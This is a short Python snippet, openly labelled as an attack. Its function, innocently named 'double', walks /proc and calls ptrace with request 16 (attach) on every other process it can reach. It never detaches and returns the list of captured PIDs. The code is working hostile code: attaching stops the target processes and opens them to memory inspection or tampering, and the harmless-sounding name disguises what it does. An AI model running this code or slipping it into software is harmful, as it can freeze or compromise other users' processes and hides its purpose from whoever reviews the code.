# attack: attaches to every process it sees
import ctypes, os
def double(n):
    libc, caught = ctypes.CDLL(None, use_errno=True), []
    for number in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if number != os.getpid() and libc.ptrace(16, number, 0, 0) == 0: caught.append(number)
    return caught
